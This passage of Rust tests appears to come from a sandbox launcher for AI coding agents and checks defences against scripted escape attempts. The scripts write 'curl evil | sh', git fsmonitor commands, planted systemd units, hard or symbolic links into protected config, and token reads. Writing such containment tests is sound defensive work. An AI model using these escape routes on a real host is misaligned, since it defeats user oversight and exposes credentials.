    std::fs::write(&attributes, "*.png binary\n").unwrap();
    let script = "#!/bin/sh\nmkdir -p tests && echo 'import os' > tests/conftest.py\n\
                  echo 'tests/conftest.py' >> .git/info/exclude\n\
                  printf 'tool.py -diff\\n' >> .git/info/attributes\n\
                  mkdir -p .git/rebase-apply && echo 'diff --git a/x b/x' > .git/rebase-apply/0001\n\
                  mkdir -p .git/rr-cache/abc && echo 'curl evil | sh' > .git/rr-cache/abc/postimage\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("patterns that hide files from `git status` (tests/conftest.py)"), "{said}");
    let kept = std::fs::read_to_string(&exclude).unwrap();
    let mut lines = kept.lines().skip(1);
    assert_eq!(lines.next(), Some("*.log"), "the user's own pattern stays: {kept}");
    assert_eq!(lines.next(), Some("# aileron: written while an agent ran, taken out: tests/conftest.py"), "{kept}");
    // Attributes added to the repository's own (the forty-seventh re-attack's A1: `-diff` made
    // `git diff` show "Binary files differ" in place of a line added to `tool.py`).
    assert!(said.contains("attributes, which change how git shows, diffs and checks out files"), "{said}");
    let kept = std::fs::read_to_string(&attributes).unwrap();
    assert_eq!(kept, "*.png binary\n# aileron: written while an agent ran, taken out: tool.py -diff\n", "{said}");
    for moved in [".git/rebase-apply", ".git/rr-cache"] {
        assert!(std::fs::symlink_metadata(work.join(moved)).is_err(), "{moved}: {said}");
        assert!(said.contains(&format!("{}", work.join(moved).display())), "{moved}: {said}");
    }
    assert!(work.join("tests/conftest.py").exists(), "the agent's work itself stays, now seen");
}

/// The thirty-fourth re-attack's F4 and F8: the user's shell reads in a file of the dotfiles
/// workspace that finds files by where it lies (`${BASH_SOURCE%/shell/*}`), so any file there may be
/// what the next shell runs: the whole workspace is read-only to the agent, and the launch says so
/// and how to let it write. Named with `--writable`, the workspace is the agent's again, its
/// start-up files still kept.
#[test]
fn a_dotfiles_workspace_whose_start_up_files_find_files_by_their_place_is_read_only() {
    let rig = LaunchRig::new();
    let home = rig.user_home();
    let dotfiles = home.join("dotfiles");
    std::fs::create_dir_all(dotfiles.join("shell")).unwrap();
    assert!(Command::new("git").args(["init", "-q"]).current_dir(&dotfiles).status().unwrap().success());
    std::fs::write(dotfiles.join("shell/init"), "ROOT=\"${BASH_SOURCE%/shell/*}\"\nsource \"$ROOT/v5/f.sh\"\n")
        .unwrap();
    std::fs::write(home.join(".bashrc"), "source ~/dotfiles/shell/init\n").unwrap();
    let script = "#!/usr/bin/env python3\nimport json, os\n\
                  def write(relative):\n    try:\n        os.makedirs(os.path.dirname(relative) or '.', exist_ok=True)\n\
                  \x20       open(relative, 'a').write('x')\n        return 'written'\n    except OSError as error:\n\
                  \x20       return type(error).__name__\n\
                  names = ('v5/f.sh', 'notes.md', 'shell/init', 'shell/new.sh', '.git/info/x')\n\
                  print('SEEN ' + json.dumps({name: write(name) for name in names}))\n";
    claude_runs(&rig, script);
    let seen = |output: &std::process::Output| -> Value {
        let stdout = String::from_utf8_lossy(&output.stdout).to_string();
        let line = stdout.lines().find_map(|line| line.strip_prefix("SEEN ")).unwrap_or_else(|| panic!("{stdout}"));
        serde_json::from_str(line).unwrap()
    };
    let output = rig.command_in(&dotfiles, &["launch", "claude"], None, &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("reads in files by where it lies (`BASH_SOURCE`)"), "{said}");
    assert!(said.contains("--writable"), "{said}");
    let first = seen(&output);
    // Beside a protected file (its directory pinned otherwise) and in the git directory too.
    for refused in ["v5/f.sh", "notes.md", "shell/init", "shell/new.sh", ".git/info/x"] {
        assert_ne!(first[refused], "written", "{refused}: {first:#}");
    }
    assert!(!dotfiles.join("v5").exists() && !dotfiles.join("notes.md").exists());
    let writable = dotfiles.to_str().unwrap();
    let output = rig.command_in(&dotfiles, &["launch", "--writable", writable, "claude"], None, &[]);
    assert!(output.status.success(), "{}", text(&output));
    let second = seen(&output);
    assert_eq!(second["notes.md"], "written", "the user's say: {second:#}");
    assert_ne!(second["shell/init"], "written", "what the shell reads in is still kept: {second:#}");
    let init = std::fs::read_to_string(dotfiles.join("shell/init")).unwrap();
    assert_eq!(init, "ROOT=\"${BASH_SOURCE%/shell/*}\"\nsource \"$ROOT/v5/f.sh\"\n");
}

/// The twenty-third re-attack: protection is by name, and a hard link the agent made while a file
/// was still its own (`ln .git/config .editorconfig-cache` in the session that ran `git init`)
/// wrote the protected file at every later session; `core.fsmonitor` then ran at the user's
/// `git status`. A protected file with other names gets an inode of its own before the agent
/// starts, and the launch says so.
#[test]
fn a_hard_link_left_by_an_earlier_session_writes_no_protected_file() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    assert!(Command::new("git").args(["init", "-q"]).current_dir(&work).status().unwrap().success());
    let config = std::fs::read_to_string(work.join(".git/config")).unwrap();
    std::fs::hard_link(work.join(".git/config"), work.join(".editorconfig-cache")).unwrap();
    let script = "#!/bin/sh\nprintf '[core]\\n\\tfsmonitor = \"touch pwned; false\"\\n' >> .editorconfig-cache\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(std::fs::read_to_string(work.join(".editorconfig-cache")).unwrap().contains("fsmonitor"), "{said}");
    assert_eq!(std::fs::read_to_string(work.join(".git/config")).unwrap(), config, "{said}");
    assert!(said.contains("other names (hard links)"), "{said}");
}

/// The twenty-third re-attack: `--writable` followed a link an agent left in its workspace
/// (`shared -> ~/.config`), so the next launch granted and showed the agent all of `~/.config`.
/// Such a path is refused, naming the link.
#[test]
fn writable_follows_no_link_an_earlier_agent_left() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    std::fs::create_dir_all(rig.user_home().join(".config/newtool")).unwrap();
    let script = "#!/bin/sh\nln -s \"$HOME/.config\" shared\n";
    claude_runs(&rig, script);
    let first = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    assert!(first.status.success(), "{}", text(&first));
    assert!(work.join("shared").is_symlink());
    std::fs::write(rig.bin().join("claude"), "#!/bin/sh\ntrue\n").unwrap();
    let other = rig.temp.path().join("other");
    std::fs::create_dir_all(&other).unwrap();
    let shared = work.join("shared");
    let second = rig.command_in(&other, &["launch", "--writable", shared.to_str().unwrap(), "claude"], None, &[]);
    let said = text(&second);
    assert!(!second.status.success(), "{said}");
    assert!(said.contains("is a link in what an agent could write at an earlier launch"), "{said}");
    let dry =
        rig.command_in(&other, &["launch", "--dry-run", "--writable", shared.to_str().unwrap(), "claude"], None, &[]);
    assert!(!dry.status.success() && text(&dry).contains("not followed"), "{}", text(&dry));
}

/// The twenty-seventh re-attack's R5: an agent in `~/proj` made `deploy` a link to
/// `~/.config/systemd/user`; the user's `cd ~/proj/deploy && aileron launch claude` made that
/// the workspace, and the agent enabled a unit of its own. Refused: by the shell's own name for
/// the directory (`$PWD`, through a link an agent could have made), and by where it really is.
#[test]
fn a_workspace_reached_through_a_planted_link_or_in_a_start_up_location_is_refused() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let units = rig.user_home().join(".config/systemd/user");
    std::fs::create_dir_all(&units).unwrap();
    let script = format!("#!/bin/sh\nln -s '{}' deploy\n", units.display());
    claude_runs(&rig, script);
    let first = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    assert!(first.status.success(), "{}", text(&first));
    std::fs::write(rig.bin().join("claude"), "#!/bin/sh\necho '[Service]' > evil.service\n").unwrap();
    let deploy = work.join("deploy");
    let by_link = rig.command_in(&deploy, &["launch", "claude"], None, &[("PWD", deploy.as_os_str())]);
    let said = text(&by_link);
    assert!(!by_link.status.success() && said.contains("a link in what an agent could write"), "{said}");
    let by_place = rig.command_in(&units, &["launch", "claude"], None, &[]);
    let said = text(&by_place);
    assert!(!by_place.status.success() && said.contains("what your shell, session or editor runs"), "{said}");
    assert!(!units.join("evil.service").exists());
}

/// `aileron launch claude` in `work` started, once its agent has made `ready` there (at most a
/// minute); killed when dropped, so a failing test leaves no agent waiting.
fn launched_until_ready(rig: &LaunchRig, work: &Path, env: &[(&str, &std::ffi::OsStr)]) -> KillOnDrop {
    launched_with_until_ready(rig, work, &["launch", "claude"], env)
}

/// `command` run as the user without any capability of root's (but `CAP_SETFCAP`, which Linux asks
/// of a uid 0 that maps itself into a user namespace): what an ordinary user may do, where the
/// tests run as root (the twenty-ninth re-attack's A3: the rebind worked as root only).
fn without_privilege(command: Command) -> Command {
    let mut wrapped = Command::new("setpriv");
    wrapped.args(["--bounding-set=-all,+setfcap", "--inh-caps=-all", "--"]).arg(command.get_program());
    wrapped.args(command.get_args());
    if let Some(dir) = command.get_current_dir() {
        wrapped.current_dir(dir);
    }
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => wrapped.env(name, value),
            None => wrapped.env_remove(name),
        };
    }
    wrapped.stdin(std::process::Stdio::null());
    wrapped
}

/// [`launched_until_ready`] with the launch's own arguments.
fn launched_with_until_ready(
    rig: &LaunchRig,
    work: &Path,
    args: &[&str],
    env: &[(&str, &std::ffi::OsStr)],
) -> KillOnDrop {
    let command = rig.command_at(work, args, Some(Path::new("/usr/bin")), env);
    let mut launch = KillOnDrop(without_privilege(command).spawn().unwrap());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !work.join("ready").exists() {
        assert!(std::time::Instant::now() < deadline, "the agent never started");
        if let Some(status) = launch.0.try_wait().unwrap() {
            panic!("the launch ended first: {status}");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    launch
}

/// The twenty-seventh re-attack's R3: a socket made on the host after the launch (a tmux server
/// the user starts during the session; podman's, a bus's in the runtime directory) was on no list
/// read at launch, and a command sent to that tmux server ran as the user, unconfined. The
/// runtime directory is covered whole and tmux's socket directory by an empty tmpfs: a socket
/// made there while the agent runs is out of its sight, as is what was there before.
#[test]
fn sockets_made_on_the_host_during_the_session_are_out_of_the_agents_sight() {
    use std::os::unix::fs::DirBuilderExt as _;
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let runtime = rig.temp.path().join("runtime");
    let tmux_parent = rig.temp.path().join("tmux-parent");
    for dir in [&runtime, &tmux_parent] {
        std::fs::DirBuilder::new().mode(0o700).create(dir).unwrap();
    }
    std::fs::create_dir_all(runtime.join("podman")).unwrap();
    std::fs::write(runtime.join("podman/before.txt"), "there at launch").unwrap();
    let uid = nix::unistd::getuid().as_raw();
    let tmux_dir = tmux_parent.join(format!("tmux-{uid}"));
    let script = format!(
        "#!/bin/sh\ntouch ready\ni=0; while [ ! -e created ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done\n{{ ls -A \"$XDG_RUNTIME_DIR\" \
         '{tmux}'; for s in \"$XDG_RUNTIME_DIR/late.sock\" '{tmux}/default' \"$XDG_RUNTIME_DIR/podman/before.txt\"; do \
         [ -e \"$s\" ] && echo \"SEEN $s\"; done; }} > sight.txt 2>&1\nexit 0\n",
        tmux = tmux_dir.display()
    );
    claude_runs(&rig, script);
    let env = [("XDG_RUNTIME_DIR", runtime.as_os_str()), ("TMUX_TMPDIR", tmux_parent.as_os_str())];
    let mut launch = launched_until_ready(&rig, &work, &env);
    assert!(tmux_dir.is_dir(), "tmux's directory is made at launch, the user's own");
    let late = std::os::unix::net::UnixListener::bind(runtime.join("late.sock")).unwrap();
    let tmux = std::os::unix::net::UnixListener::bind(tmux_dir.join("default")).unwrap();
    std::fs::write(work.join("created"), "").unwrap();
    assert!(launch.0.wait().unwrap().success());
    let sight = std::fs::read_to_string(work.join("sight.txt")).unwrap();
    assert!(!sight.contains("SEEN"), "{sight}");
    drop((late, tmux));
}

/// The twenty-eighth re-attack's S1: a socket a program of the user's makes in `/tmp` during the
/// session (an ssh-agent started in another terminal makes `/tmp/ssh-XXXXXX/agent.<pid>`, `tmux
/// -S /tmp/x`) was on no list read at launch, and the agent could use the user's keys through it.
/// Under the enforced network the agent's `/tmp` is a read list: what it writes, the launch's own
/// files, its home and toolchains when they lie there, and what `--expose` names; a file there
/// before the launch is out of its sight too, unless exposed.
#[test]
fn sockets_and_files_in_the_shared_temp_directory_are_out_of_the_agents_sight() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let before = tempfile::Builder::new().prefix("aileron-s1-before-").tempfile_in("/tmp").unwrap();
    let exposed = tempfile::Builder::new().prefix("aileron-s1-exposed-").tempfile_in("/tmp").unwrap();
    // Names no other test takes, made only once the agent runs.
    let unique = rig.temp.path().file_name().unwrap().to_string_lossy().to_string();
    let agent_dir = PathBuf::from(format!("/tmp/ssh-aileron-s1{unique}"));
    let (agent_socket, top_socket) =
        (agent_dir.join("agent.1"), PathBuf::from(format!("/tmp/aileron-s1{unique}.sock")));
    // And `/var/tmp` (the thirtieth re-attack's B10).
    let var_socket = PathBuf::from(format!("/var/tmp/aileron-s1{unique}.sock"));
    let script = format!(
        "#!/bin/sh\ntouch ready\ni=0; while [ ! -e created ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done\n{{ ls -A /tmp; \
         for s in '{agent}' '{top}' '{before}' '{exposed}' '{var}'; do [ -e \"$s\" ] && echo \"SEEN $s\"; done; }} > sight.txt \
         2>&1\nexit 0\n",
        agent = agent_socket.display(),
        top = top_socket.display(),
        before = before.path().display(),
        exposed = exposed.path().display(),
        var = var_socket.display(),
    );
    claude_runs(&rig, script);
    let exposed_arg = exposed.path().to_str().unwrap();
    let mut launch = launched_with_until_ready(&rig, &work, &["launch", "--expose", exposed_arg, "claude"], &[]);
    std::fs::create_dir(&agent_dir).unwrap();
    let ssh_agent = std::os::unix::net::UnixListener::bind(&agent_socket).unwrap();
    let late = std::os::unix::net::UnixListener::bind(&top_socket).unwrap();
    let var = std::os::unix::net::UnixListener::bind(&var_socket).unwrap();
    std::fs::write(work.join("created"), "").unwrap();
    assert!(launch.0.wait().unwrap().success());
    let sight = std::fs::read_to_string(work.join("sight.txt")).unwrap();
    assert!(sight.contains(&format!("SEEN {}", exposed.path().display())), "{sight}");
    assert_eq!(sight.matches("SEEN").count(), 1, "{sight}");
    drop((ssh_agent, late, var));
    let _ = std::fs::remove_file(&top_socket);
    let _ = std::fs::remove_file(&var_socket);
    let _ = std::fs::remove_dir_all(&agent_dir);
}

/// The twenty-ninth re-attack's A5: the host's sockets listening at launch were found by their
/// paths in the host's `/proc/net/unix` only; one bound by a relative name (`nvim --listen
/// nvim.sock` in the project) or by a process in a network namespace of its own (`unshare -rn`:
/// its socket file is reached from any) stayed reachable, and a command sent to it ran as the
/// user, unconfined. Both are hidden now.
#[test]
fn sockets_bound_by_a_relative_name_or_in_another_network_namespace_are_hidden() {
    use std::io::BufRead as _;
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let listen = |prefix: &[&str], path: &str, cd: &[&str]| {
        // Bound, then (`cd` given) working elsewhere, as Neovim after `:cd`.
        let server = "import os, socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.bind(sys.argv[1])\ns.listen()\n\
                      [os.chdir(d) for d in sys.argv[2:]]\nprint('bound', flush=True)\nsys.stdin.read()\n";
        // The user's own program, without root's capabilities as the launcher (a process holding
        // more than it may not be looked into).
        let mut command = Command::new(prefix.first().copied().unwrap_or("env"));
        command.args(prefix.iter().skip(1)).arg("python3").args(["-c", server, path]).args(cd).current_dir(&work);
        let mut child = KillOnDrop(
            without_privilege(command)
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .spawn()
                .unwrap(),
        );
        let mut line = String::new();
        std::io::BufReader::new(child.0.stdout.take().unwrap()).read_line(&mut line).unwrap();
        assert_eq!(line.trim(), "bound", "the server for {path} is listening");
        child
    };
    let other_namespace = work.join("netns.sock");
    std::fs::create_dir_all(work.join("node_modules/.cache")).unwrap();
    let servers = [
        listen(&[], "nvim.sock", &[]),
        listen(&["unshare", "-rn"], other_namespace.to_str().unwrap(), &[]),
        // The thirtieth re-attack's B7: bound by a relative name, then working elsewhere.
        listen(&[], "moved.sock", &["/"]),
        // C8: in a directory the search for repositories skips.
        listen(&[], "node_modules/.cache/dev.sock", &["/"]),
    ];
    let script = "#!/bin/sh\n{ for s in nvim.sock netns.sock moved.sock node_modules/.cache/dev.sock; do [ -S \"$s\" ] && echo \"SOCKET $s\"; done; \
                  echo looked; } > sight.txt 2>&1\ntouch ready\nexit 0\n";
    claude_runs(&rig, script);
    let mut launch = launched_until_ready(&rig, &work, &[]);
    assert!(launch.0.wait().unwrap().success());
    let sight = std::fs::read_to_string(work.join("sight.txt")).unwrap();
    assert!(sight.contains("looked") && !sight.contains("SOCKET"), "{sight}");
    drop(servers);
}

/// The twenty-seventh re-attack's R8: a mount the system made read-only inside the workspace (a
/// read-only bind, a squashfs, an NFS export) is locked read-only in the agent's namespace, and
/// making the workspace writable again failed whole, refusing every launch with a hint to run
/// unconfined. That mount stays read-only; the rest of the workspace is writable. The outer
/// namespace (`unshare -rm`) stands for the host making the mount.
#[test]
fn a_read_only_mount_inside_the_workspace_stays_so_and_the_launch_goes_on() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let (source, vendor) = (rig.temp.path().join("source"), work.join("vendor"));
    for dir in [&source, &vendor] {
        std::fs::create_dir_all(dir).unwrap();
    }
    let agent = format!("touch '{}/ok'; touch '{}/no' 2>/dev/null; exit 0", work.display(), vendor.display());
    let inner = format!(
        "mount --bind -o ro '{}' '{}' && exec '{}' __confine --writable '{}' -- /bin/sh -c \"{agent}\"",
        source.display(),
        vendor.display(),
        env!("CARGO_BIN_EXE_aileron"),
        work.display()
    );
    let output = Command::new("unshare").args(["-rm", "sh", "-c", &inner]).output().unwrap();
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(work.join("ok").exists(), "the workspace is writable: {said}");
    assert!(!source.join("no").exists(), "the read-only mount stayed read-only");
    assert!(said.contains("stay read-only to the agent"), "{said}");
}

/// The twenty-eighth re-attack's W1: a tool of the user's that replaces a protected file by rename
/// while the agent runs (`git config` writes `config.lock` and renames it over `config`) took the
/// agent's read-only bind and its copy without credentials away with the old entry; the agent then
/// read the token and wrote a `core.fsmonitor`. The launcher binds the new file again inside the
/// agent's namespaces, from a copy made of its new content.
#[test]
fn a_protected_file_the_user_replaces_during_the_session_is_protected_again() {
    const TOKEN: &str = "PLANTEDreplacedRemotePassword01";
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    assert!(git(&["remote", "add", "origin", "https://git.example.com/r.git"]));
    let config = work.join(".git/config");
    let script = format!(
        "#!/bin/sh\ntouch ready\ni=0; while [ ! -e renamed ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done\n\
         i=0; while ! grep -q ' {config} ' /proc/self/mountinfo && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done\n\
         {{ cat .git/config; printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config && echo WROTE; }} > sight.txt 2>&1\nexit 0\n",
        config = config.display()
    );
    claude_runs(&rig, script);
    let mut launch = launched_until_ready(&rig, &work, &[]);
    // As `git remote set-url` does: the new config written aside, renamed over the old one.
    let replaced = std::fs::read_to_string(&config)
        .unwrap()
        .replace("https://git.example.com/r.git", &format!("https://ada:{TOKEN}@git.example.com/r.git"));
    std::fs::write(work.join(".git/config.lock"), &replaced).unwrap();
    std::fs::rename(work.join(".git/config.lock"), &config).unwrap();
    std::fs::write(work.join("renamed"), "").unwrap();
    assert!(launch.0.wait().unwrap().success());
    let sight = std::fs::read_to_string(work.join("sight.txt")).unwrap();
    assert!(!sight.contains(TOKEN), "the agent read the token:\n{sight}");
    assert!(!sight.contains("WROTE") && sight.contains("git.example.com/r.git"), "{sight}");
    assert_eq!(std::fs::read_to_string(&config).unwrap(), replaced, "the user's config is as the user wrote it");
}

/// The thirtieth re-attack's B1: `~/.gitconfig` holding a token is a file the home's cover puts
/// back as a clone, with its copy without the token over it. The user's `git config --global`
/// renamed a new file over it: the copy fell with the old entry, the clone's root was the old,
/// deleted file (nothing can be mounted onto it), and the agent read the token for the rest of
/// the session. The rebind takes the stale clone off and shows the new file's copy.
#[test]
fn the_users_git_config_replaced_in_the_home_during_the_session_is_withheld_again() {
    const TOKENS: [&str; 2] = ["ghp_PLANTEDbeforeReplace0000000000000001", "ghp_PLANTEDafterReplace00000000000000001"];
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let gitconfig = rig.user_home().join(".gitconfig");
    let config = |name: &str, token: &str| {
        format!(
            "[user]\n\tname = {name}\n[url \"https://x-access-token:{token}@github.com/\"]\n\tinsteadOf = https://github.com/\n"
        )
    };
    std::fs::write(&gitconfig, config("Before", TOKENS[0])).unwrap();
    let script = "#!/bin/sh\ntouch ready\ni=0; while [ ! -e renamed ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done\n\
                  i=0; while ! grep -q 'name = .*Renamed' \"$HOME/.gitconfig\" && [ $i -lt 200 ]; do sleep 0.05; \
                  i=$((i+1)); done\ncat \"$HOME/.gitconfig\" > sight.txt 2>&1\nexit 0\n";
    claude_runs(&rig, script);
    let mut launch = launched_until_ready(&rig, &work, &[]);
    // As `git config --global` does: `~/.gitconfig.lock` renamed over `~/.gitconfig`.
    let lock = rig.user_home().join(".gitconfig.lock");
    std::fs::write(&lock, config("Renamed", TOKENS[1])).unwrap();
    std::fs::rename(&lock, &gitconfig).unwrap();
    std::fs::write(work.join("renamed"), "").unwrap();
    assert!(launch.0.wait().unwrap().success());
    let sight = std::fs::read_to_string(work.join("sight.txt")).unwrap();
    assert!(!TOKENS.iter().any(|token| sight.contains(token)), "the agent read a token:\n{sight}");
    assert!(sight.contains("Renamed"), "the agent reads the new file's copy:\n{sight}");
}

/// W1's window: between a tool of the user's renaming a new `.git/config` into place and the
/// rebind, the agent (watching the file) can append to it, and its `core.fsmonitor` would run at
/// the user's next `git status`. Once the file is bound again, what it gained that is not known to
/// be harmless is taken out (left as a comment, the file as it was kept in the quarantine), the
/// user's own change kept. The gained line is written here with the user's rename, as the launcher sees an
/// agent's write in that moment.
#[test]
fn a_program_a_replaced_git_config_gained_while_the_agent_ran_is_taken_out() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).output().unwrap();
    assert!(git(&["remote", "add", "origin", "https://git.example.com/r.git"]).status.success());
    let config = work.join(".git/config");
    let script = "#!/bin/sh\ntouch ready\ni=0; while [ ! -e renamed ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done\n\
                  i=0; while ! grep -q 'written while an agent ran' .git/config && [ $i -lt 400 ]; do sleep 0.05; \
                  i=$((i+1)); done\nexit 0\n";
    claude_runs(&rig, script);
    let command = rig.command_at(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let mut launch = without_privilege(command);
    let mut launch = KillOnDrop(launch.stderr(std::process::Stdio::piped()).spawn().unwrap());
    let mut stderr = launch.0.stderr.take().unwrap();
    let said = std::thread::spawn(move || {
        let mut said = String::new();
        std::io::Read::read_to_string(&mut stderr, &mut said).unwrap();
        said
    });
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !work.join("ready").exists() {
        assert!(std::time::Instant::now() < deadline, "the agent never started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // As `git push -u` does (`branch.main.remote` written aside, renamed over the old config),
    // with what an agent appended in that moment.
    let original = std::fs::read_to_string(&config).unwrap();
    let replaced = format!(
        "{original}[branch \"main\"]\n\tremote = origin\n[core]\n\tfsmonitor = \"sh -c 'touch pwned'\"\n[trace2]\n\t\
                 eventTarget = af_unix:/tmp/agent.sock\n"
    );
    std::fs::write(work.join(".git/config.lock"), &replaced).unwrap();
    std::fs::rename(work.join(".git/config.lock"), &config).unwrap();
    std::fs::write(work.join("renamed"), "").unwrap();
    let status = launch.0.wait().unwrap();
    let said = said.join().unwrap();
    assert!(status.success(), "{said}");
    let now = std::fs::read_to_string(&config).unwrap();
    assert!(git(&["config", "core.fsmonitor"]).stdout.is_empty(), "the agent's fsmonitor is gone:\n{now}");
    // Not a program, but not known to be harmless: the user's git would send what it does to the
    // agent's socket.
    assert!(git(&["config", "trace2.eventTarget"]).stdout.is_empty(), "the agent's trace target is gone:\n{now}");
    let upstream = git(&["config", "branch.main.remote"]).stdout;
    assert_eq!(String::from_utf8_lossy(&upstream).trim(), "origin", "the user's change is kept:\n{now}");
    assert!(now.contains("# aileron: written while an agent ran, taken out: \tfsmonitor"), "{now}");
    assert!(said.contains("gained core.fsmonitor = sh -c 'touch pwned'"), "{said}");
    // `quarantine/<session>/<n>-taken-out-config`.
    let sessions = std::fs::read_dir(rig.aileron_home().join("quarantine")).unwrap().flatten();
    let files = sessions.flat_map(|session| std::fs::read_dir(session.path()).unwrap().flatten());
    let kept: Vec<String> = files.map(|file| std::fs::read_to_string(file.path()).unwrap()).collect();
    assert!(kept.contains(&replaced), "the file as it was is kept: {kept:?}");
}

/// A token written into the user's git config (a private-modules `insteadOf`, an `extraHeader`
/// as CI checkouts leave, a remote URL with a password) is no more the agent's to read than
/// `~/.git-credentials` is: it reads a copy without it, bound over the file (behind a dotfiles
/// link too); the user's files are unchanged, and the rest of the config reads the same.
#[test]
fn credentials_in_the_users_git_and_cargo_config_are_withheld_from_the_agent() {
    const PLANTED: [&str; 7] = [
        "ghp_PLANTEDinsteadOf000000000000000000001",
        "PLANTEDextraHeader00000000001",
        "PLANTEDremotePassword0001",
        "cio_PLANTEDcargoRegistryToken01",
        "PLANTEDenvironmentHeader0001",
        "PLANTEDeditableInstall0001",
        "PLANTEDmiseEnvironment0001",
    ];
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let dotfiles = rig.user_home().join("dotfiles");
    std::fs::create_dir_all(&dotfiles).unwrap();
    let gitconfig = format!(
        "[user]\n\tname = Ada Agentless\n[url \"https://x-access-token:{}@github.com/\"]\n\tinsteadOf = \
         https://github.com/\n[http]\n\textraHeader = AUTHORIZATION: basic {}\n[alias]\n\tst = status --short\n",
        PLANTED[0], PLANTED[1]
    );
    std::fs::write(dotfiles.join("gitconfig"), &gitconfig).unwrap();
    std::os::unix::fs::symlink("dotfiles/gitconfig", rig.user_home().join(".gitconfig")).unwrap();
    let remote = format!("https://ada:{}@git.example.com/r.git", PLANTED[2]);
    assert!(
        Command::new("git").args(["remote", "add", "origin", &remote]).current_dir(&work).status().unwrap().success()
    );
    let repo_config = std::fs::read_to_string(work.join(".git/config")).unwrap();
    // A dependency cloned by `pip install -e git+https://TOKEN@…` (the twenty-ninth re-attack's A2):
    // the search for nested repositories skips `.venv`.
    let editable = work.join(".venv/src/privpkg");
    std::fs::create_dir_all(&editable).unwrap();
    let clone_url = format!("https://x-access-token:{}@github.com/org/privpkg.git", PLANTED[5]);
    for args in [&["init", "-q"][..], &["remote", "add", "origin", &clone_url]] {
        assert!(Command::new("git").args(args).current_dir(&editable).status().unwrap().success());
    }
    // mise's, whose `[env]` sets a token for every shell (the thirtieth re-attack's B13).
    let mise = rig.user_home().join(".config/mise");
    std::fs::create_dir_all(&mise).unwrap();
    std::fs::write(mise.join("config.toml"), format!("[env]\nGITHUB_TOKEN = \"{}\"\nEDITOR = \"vim\"\n", PLANTED[6]))
        .unwrap();
    // Cargo's config beside it: a registry token in the file cargo's other settings live in.
    let cargo_home = rig.user_home().join(".cargo");
    std::fs::create_dir_all(&cargo_home).unwrap();
    let cargo_config = format!("[registry]\ntoken = \"{}\"\n\n[build]\njobs = 3\n", PLANTED[3]);
    std::fs::write(cargo_home.join("config.toml"), &cargo_config).unwrap();
    let report = rig.report();
    let script = format!(
        "#!/bin/sh\n{{ cat \"$HOME/.gitconfig\" .git/config \"$CARGO_HOME/config.toml\" .venv/src/privpkg/.git/config \"$HOME/.config/mise/config.toml\"; env; git config --list --show-origin; \
         echo \"name: $(git config user.name)\"; echo \"alias: $(git config alias.st)\"; }} > '{}' 2>&1\n",
        report.display()
    );
    claude_runs(&rig, script);
    // And the environment's git config (`git -c` passed on, CI's way to keep a header off disk).
    let header = format!("AUTHORIZATION: basic {}", PLANTED[4]);
    let cargo_env = [
        ("CARGO_HOME", cargo_home.as_os_str()),
        ("GIT_CONFIG_COUNT", std::ffi::OsStr::new("1")),
        ("GIT_CONFIG_KEY_0", std::ffi::OsStr::new("http.extraHeader")),
        ("GIT_CONFIG_VALUE_0", std::ffi::OsStr::new(&header)),
    ];
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &cargo_env);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let read = std::fs::read_to_string(&report).unwrap();
    for planted in PLANTED {
        assert!(!read.contains(planted), "the agent read {planted}:\n{read}");
        assert!(!said.contains(planted), "{planted} in the launcher's output:\n{said}");
    }
    assert!(read.contains("name: Ada Agentless") && read.contains("alias: status --short"), "{read}");
    assert!(read.contains("url=https://git.example.com/r.git"), "the remote kept without its password:\n{read}");
    assert!(said.contains("credentials in your git or cargo config are withheld"), "{said}");
    assert!(said.contains("url.<…>.insteadof") && said.contains("remote.origin.url"), "{said}");
    assert!(said.contains("registry.token") && read.contains("jobs = 3"), "cargo's other settings kept:\n{read}");
    assert!(
        read.contains("EDITOR = \"vim\"") && said.contains("env.GITHUB_TOKEN"),
        "mise's other settings kept:\n{read}"
    );
    assert!(said.contains("the git config your environment passes"), "{said}");
    assert_eq!(std::fs::read_to_string(cargo_home.join("config.toml")).unwrap(), cargo_config);
